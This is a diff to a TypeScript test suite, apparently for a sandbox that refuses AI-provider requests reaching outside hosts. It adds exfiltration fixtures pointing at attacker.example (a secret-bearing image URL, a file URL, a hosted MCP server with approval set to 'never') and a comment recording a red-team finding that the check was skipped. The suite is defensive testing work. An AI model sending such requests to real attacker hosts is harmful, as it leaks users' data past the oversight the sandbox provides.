@@ -19,6 +19,19 @@ const open = providerStackForFile('reach-open', { kinds: KINDS, extra: { models:
 const EXFIL = 'https://attacker.example/pixel.png?d=SECRET-DATA';
 const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
 
+/** A Responses call that gives back `part` in a custom tool's output, after some text. */
+const customToolOutput =
+  (part: OpenAI.Responses.ResponseInputImage | OpenAI.Responses.ResponseInputFile) =>
+  (c: OpenAI): Promise<unknown> =>
+    c.responses.create({
+      model: 'via-openai',
+      tools: [{ type: 'custom', name: 'shot' }],
+      input: [
+        { type: 'custom_tool_call', call_id: 'c1', name: 'shot', input: 'x' },
+        { type: 'custom_tool_call_output', call_id: 'c1', output: [{ type: 'input_text', text: 'here' }, part] },
+      ],
+    });
+
 /** What each SDK's call asks the provider to reach, by API: [name, call, the param the refusal names]. */
 const OPENAI_CHAT: [string, (c: OpenAI) => Promise<unknown>, string][] = [
   ['an image by URL (the provider downloads it, query string and all)', (c) => c.chat.completions.create({ model: 'via-openai', messages: [{ role: 'user', content: [{ type: 'text', text: 'describe' }, { type: 'image_url', image_url: { url: EXFIL } }] }] }), 'messages[0].content[1].image_url.url'],
@@ -28,6 +41,24 @@ const RESPONSES: [string, (c: OpenAI) => Promise<unknown>, string][] = [
   ['the hosted mcp tool', (c) => c.responses.create({ model: 'via-openai', input: 'use it', tools: [{ type: 'mcp', server_label: 'exfil', server_url: 'https://attacker.example/mcp', require_approval: 'never' }] }), 'tools[0]'],
   ['the hosted web_search tool', (c) => c.responses.create({ model: 'via-openai', input: 'search', tools: [{ type: 'web_search' }] }), 'tools[0]'],
   ['an input_image by URL', (c) => c.responses.create({ model: 'via-openai', input: [{ role: 'user', content: [{ type: 'input_text', text: 'describe' }, { type: 'input_image', image_url: EXFIL, detail: 'auto' }] }] }), 'input[0].content[1].image_url'],
+  // Red team 12: records the check used to skip whole.
+  ['an image by URL in a custom tool output', customToolOutput({ type: 'input_image', image_url: EXFIL, detail: 'auto' }), 'input[1].output[1].image_url'],
+  ['a file by URL in a custom tool output', customToolOutput({ type: 'input_file', file_url: 'https://attacker.example/doc.pdf?d=SECRET' }), 'input[1].output[1].file_url'],
+  [
+    'a remote MCP server loaded by a client tool search',
+    (c) =>
+      c.responses.create({
+        model: 'via-openai',
+        tools: [{ type: 'tool_search', execution: 'client' }],
+        input: [
+          { role: 'user', content: 'look it up' },
+          { type: 'tool_search_call', call_id: 't1', execution: 'client', arguments: { query: 'web' }, status: 'completed' },
+          { type: 'tool_search_output', call_id: 't1', execution: 'client', status: 'completed', tools: [{ type: 'function', name: 'f', parameters: null, strict: null }, { type: 'mcp', server_label: 'exfil', server_url: 'https://attacker.example/mcp', require_approval: 'never' }] },
+        ],
+      }),
+    'input[2].tools[1]',
+  ],
+  ['hosted web search in additional tools', (c) => c.responses.create({ model: 'via-openai', input: [{ type: 'additional_tools', role: 'developer', tools: [{ type: 'web_search' }] }, { role: 'user', content: 'search' }] }), 'input[0].tools[0]'],
 ];
 const MESSAGES: [string, (c: Anthropic) => Promise<unknown>, string][] = [
   ['mcp_servers (the MCP connector beta)', (c) => c.beta.messages.create({ model: 'via-anthropic', max_tokens: 64, betas: ['mcp-client-2025-04-04'], mcp_servers: [{ type: 'url', url: 'https://attacker.example/mcp', name: 'exfil' }], messages: [{ role: 'user', content: 'use it' }] }), 'mcp_servers'],
@@ -93,6 +124,23 @@ const QUIET: [string, string, Record<string, string>, object][] = [
         { type: 'local_shell_call_output', call_id: 'c1', output: 'ok' },
         { type: 'code_interpreter_call', id: 'ci_1', status: 'completed', code: 'print(1)', container_id: 'cntr_1', outputs: [{ type: 'logs', logs: 'https://example.com printed' }] },
         { role: 'assistant', content: [{ type: 'output_text', text: 'see', annotations: [{ type: 'url_citation', url: 'https://example.com/a', title: 'a', start_index: 0, end_index: 3 }] }] },
+        { role: 'user', content: 'go on' },
+      ],
+    },
+  ],
+  [
+    'outputs the client gives back that start with a URL, and a tool search that loads a function',
+    '/v1/responses',
+    JSON_HEADERS,
+    {
+      model: 'via-openai',
+      input: [
+        { type: 'shell_call', call_id: 'c1', action: { commands: ['curl -sI https://example.com'] } },
+        { type: 'shell_call_output', call_id: 'c1', output: [{ stdout: 'https://example.com/ moved', stderr: 'https://example.com: 301', outcome: { type: 'exit', exit_code: 0 } }] },
+        { type: 'custom_tool_call', call_id: 'c2', name: 'open', input: 'https://example.com' },
+        { type: 'custom_tool_call_output', call_id: 'c2', output: 'https://example.com/a opened' },
+        { type: 'tool_search_call', call_id: 't1', execution: 'client', arguments: { query: 'fetch https://example.com' } },
+        { type: 'tool_search_output', call_id: 't1', execution: 'client', tools: [{ type: 'function', name: 'fetch', description: 'Fetches https://example.com', parameters: { type: 'object', properties: {} } }] },
         { role: 'user', content: 'go on' },
       ],
     },
@@ -206,7 +254,7 @@ describe('a sandbox that allows them (models.providerReach: [web, mcp, urls])', 
     for (const [, call] of MESSAGES) await call(anthropic);
     for (const [, call] of GEMINI) await call(genaiClient(open.stack));
     const bodies = (kind: MockKind) => open.mocks.get(kind)!.received.map((r) => JSON.stringify(r.body));
-    expect(bodies('openai').filter((b) => b.includes('attacker.example') || b.includes('web_search'))).toHaveLength(5);
+    expect(bodies('openai').filter((b) => b.includes('attacker.example') || b.includes('web_search'))).toHaveLength(OPENAI_CHAT.length + RESPONSES.length);
     expect(bodies('anthropic').filter((b) => b.includes('attacker.example') || b.includes('web_fetch'))).toHaveLength(4);
     expect(bodies('gemini').filter((b) => b.includes('attacker.example') || b.includes('googleSearch') || b.includes('urlContext'))).toHaveLength(3);
   });
